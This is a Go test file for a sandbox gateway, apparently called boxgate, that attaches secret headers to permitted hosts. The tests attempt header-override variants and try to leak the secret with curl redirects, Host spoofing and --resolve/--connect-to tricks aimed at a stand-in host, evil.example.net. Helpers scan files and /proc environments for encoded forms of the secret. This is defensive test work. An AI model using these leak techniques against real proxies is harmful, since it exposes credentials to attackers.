package secrets

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"boxgate/audit"
	"boxgate/e2e/harness"
	"boxgate/internal/testnet"
	"boxgate/policy/name"
)

// TestAttackOwnVariantsOfAnInjectedHeader sends the injected header itself, in every spelling that a server might
// accept.
func TestAttackOwnVariantsOfAnInjectedHeader(t *testing.T) {
	t.Parallel()
	change, start := harness.WithOrigin(t)
	w := harness.NewWorld(t, change)
	origin := start(w)
	in := w.Intrude(w.Create(map[string]any{
		"network_policy": harness.Custom(harness.OriginName),
		"attach_headers": map[string]any{harness.OriginName: map[string]string{"X-Api-Key": harness.Canary, "Authorization": "Bearer " + harness.Canary}},
	}))
	check := func(how string) {
		got := origin.Received()
		low := strings.ReplaceAll(strings.ToLower(got), "_", "-")
		if strings.Count(low, "x-api-key") != 1 || strings.Count(low, "authorization") != 1 || strings.Contains(got, "mine") ||
			!strings.Contains(got, "\r\nX-Api-Key: "+harness.Canary+"\r\n") || !strings.Contains(got, "\r\nAuthorization: Bearer "+harness.Canary+"\r\n") {
			t.Errorf("%s: the origin received %q", how, got)
		}
	}
	for how, fields := range map[string]string{
		"nothing":            "",
		"the same spelling":  "X-Api-Key: mine\r\nAuthorization: mine\r\n",
		"small letters":      "x-api-key: mine\r\nauthorization: mine\r\n",
		"capital letters":    "X-API-KEY: mine\r\nAUTHORIZATION: mine\r\n",
		"underscores":        "X_Api_Key: mine\r\n",
		"both":               "x-api_key: mine\r\nX_API-KEY: mine\r\n",
		"twice":              "X-Api-Key: mine\r\nX-Api-Key: mine\r\nauthorization: mine\r\nAuthorization: mine\r\n",
		"an empty value":     "X-Api-Key:\r\nAuthorization:\r\n",
		"for this hop alone": "Connection: X-Api-Key, Authorization\r\nX-Api-Key: mine\r\n",
		"for this hop, late": "X-Api-Key: mine\r\nConnection: keep-alive, x-api-key, authorization\r\n",
	} {
		c := in.TLS(in.DialHost(harness.OriginName, 443), harness.OriginName)
		if res, _ := harness.Exchange(t, c, bufio.NewReader(c), "GET / HTTP/1.1\r\nHost: "+harness.OriginName+"\r\n"+fields+"\r\n"); res.StatusCode != 200 {
			t.Errorf("%s: %d", how, res.StatusCode)
		}
		if how == "for this hop alone" || how == "for this hop, late" {
			how += " (h1)"
		}
		check(how)
	}
	for how, fields := range map[string][]harness.Field{
		"over HTTP/2":              {{"x-api-key", "mine"}, {"authorization", "mine"}},
		"twice over HTTP/2":        {{"x-api-key", "mine"}, {"x-api-key", "mine"}, {"authorization", "mine"}, {"authorization", "mine"}},
		"underscores, over HTTP/2": {{"x_api_key", "mine"}, {"x-api_key", "mine"}},
	} {
		f := in.Frames(harness.OriginName)
		f.Send(1, true, harness.Head(harness.OriginName, fields...)...)
		if got := f.Outcome(1); got != "200" {
			t.Errorf("%s: %s", how, got)
		}
		check(how)
	}
}

// TestAttackSecretsGoNowhereElse makes requests to the secret's host that must not carry the secret.
func TestAttackSecretsGoNowhereElse(t *testing.T) {
	t.Parallel()
	change, start := harness.WithOrigin(t)
	w := harness.NewWorld(t, change)
	origin := start(w)
	if err := w.Net.AddHost("misnamed.example.com", "198.51.100.77"); err != nil { // its certificate is only for the origin
		t.Fatal(err)
	}
	key := map[string]string{"X-Key": harness.Canary}
	box := w.Create(map[string]any{
		"network_policy": harness.Custom("*.example.com", "evil.example.net"),
		"attach_headers": map[string]any{
			"api.example.com": key, "bad-cert.example.com": key, "misnamed.example.com": key, "ws.example.com:8443": key,
		},
	})
	// code runs curl in the box and returns the status, or curl's exit code on an error.
	code := func(arguments string) string {
		out, exit := w.Sh(box, "curl -k -sS -o /tmp/body -w '%{http_code}' "+arguments)
		if exit != 0 {
			return fmt.Sprintf("exit %d", exit)
		}
		return strings.TrimSpace(out)
	}
	for arguments, want := range map[string]string{
		"http://api.example.com/x":                                                                              "200",
		"http://api.example.com:8080/x":                                                                         "200",
		"https://api.example.com:8443/x":                                                                        "200", // the rule is for 443
		"https://ws.example.com/x":                                                                              "200", // the rule is for 8443
		"-L 'https://api.example.com/redirect?to=https://evil.example.net/x'":                                   "200",
		"-L 'https://api.example.com/redirect?to=http://evil.example.net/x'":                                    "200",
		"-L 'https://api.example.com/redirect?to=http://api.example.com/x'":                                     "200",
		"-L 'https://api.example.com/redirect?to=https://www.example.com/x'":                                    "200",
		"https://bad-cert.example.com/x":                                                                        "502",
		"--http1.1 https://bad-cert.example.com/x":                                                              "502",
		"https://misnamed.example.com/x":                                                                        "502",
		"-X TRACE https://api.example.com/x":                                                                    "405",
		"-H 'Host: evil.example.net' https://api.example.com/x":                                                 "421",
		"-x http://10.200.0.1:3128 http://api.example.com/x":                                                    "200",
		"--resolve api.example.com:443:" + w.V4("evil.example.net").String() + " https://api.example.com/owner": "200",
		"--connect-to api.example.com:443:evil.example.net:443 https://api.example.com/owner":                   "200",
	} {
		if got := code(arguments); got != want {
			t.Errorf("curl %s: %s, want %s", arguments, got, want)
		}
	}
	received := w.Net.Received("", testnet.Of(testnet.Request))
	owner := 0
	for _, r := range received {
		secret := strings.Contains(fmt.Sprint(r), harness.Canary)
		switch path, _, _ := strings.Cut(r.Target, "?"); {
		case path == "/redirect", path == "/owner" && r.SNI == "api.example.com":
			if owner++; !secret || !strings.HasPrefix(r.Addr.String(), w.V4("api.example.com").String()+":443") && r.Addr.Addr().Is4() {
				t.Errorf("the owner of the name received %+v", r)
			}
		case secret:
			t.Errorf("the secret went to %+v", r)
		}
	}
	if owner != 6 || len(received) < 14 {
		t.Errorf("%d requests arrived, %d at the owner of the name", len(received), owner)
	}
	if got := origin.Received(); got != "" {
		t.Errorf("a host that its certificate does not name received %q", got)
	}
	for _, host := range []string{"bad-cert.example.com", "misnamed.example.com"} {
		if len(w.Net.Received(host, testnet.Of(testnet.Request))) != 0 {
			t.Errorf("%s received a request", host)
		}
		w.Event(box, func(e audit.Event) bool {
			return e.Name == host && e.Reason == name.ReasonUpstreamTLS && e.Headers == nil
		})
	}
}

// forms returns the encodings in which a secret might appear.
func forms(secret string) map[string][]byte {
	out := map[string][]byte{
		"plain": []byte(secret), "hex": []byte(hex.EncodeToString([]byte(secret))),
		"HEX": []byte(strings.ToUpper(hex.EncodeToString([]byte(secret)))), "backwards": reversed(secret),
	}
	for shift := range 3 { // for each offset in the encoded text
		whole := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", shift) + secret))
		out[fmt.Sprintf("base64 at %d", shift)] = []byte(whole[4 : len(whole)-4])
	}
	return out
}

func reversed(s string) []byte {
	out := []byte(s)
	for i, j := 0, len(out)-1; i < j; i, j = i+1, j-1 {
		out[i], out[j] = out[j], out[i]
	}
	return out
}

// fileWith returns the first file below root that contains want.
func fileWith(t *testing.T, root string, want []byte) string {
	t.Helper()
	return filesWith(t, root, map[string][]byte{"": want})[""]
}

// filesWith returns, for each name in want, the first file below root that contains it.
func filesWith(t *testing.T, root string, want map[string][]byte) map[string]string {
	t.Helper()
	found := map[string]string{}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil //nolint:nilerr // removed files contain nothing
		}
		data, _ := os.ReadFile(path)
		for name, what := range want {
			if found[name] == "" && bytes.Contains(data, what) {
				found[name] = path
			}
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	return found
}

// processes returns the command line and environment of every process.
func processes(t *testing.T) map[string][]byte {
	t.Helper()
	dirs, err := filepath.Glob("/proc/[0-9]*")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for _, dir := range dirs {
		if hasNotExecuted(dir) {
			continue
		}
		line, _ := os.ReadFile(filepath.Join(dir, "cmdline")) // empty if the process has ended
		environ, _ := os.ReadFile(filepath.Join(dir, "environ"))
		out[filepath.Base(dir)] = append(line, environ...)
	}
	return out
}

// hasNotExecuted reports whether a process has been forked and has not executed a program yet (PF_FORKNOEXEC in the flags of
// proc_pid_stat(5)). Until then, a child of the gateway shows the gateway's own environment.
func hasNotExecuted(dir string) bool {
	stat, _ := os.ReadFile(filepath.Join(dir, "stat"))
	_, rest, _ := bytes.Cut(stat[bytes.LastIndexByte(stat, ')')+1:], []byte(" "))
	fields := strings.Fields(string(rest)) // from the third field on: the second, in parentheses, may contain blanks
	if len(fields) < 7 {
		return false
	}
	const forkNoExec = 0x40 // PF_FORKNOEXEC of the kernel's linux/sched.h
	flags, err := strconv.ParseUint(fields[6], 10, 64)
	return err == nil && flags&forkNoExec != 0
}
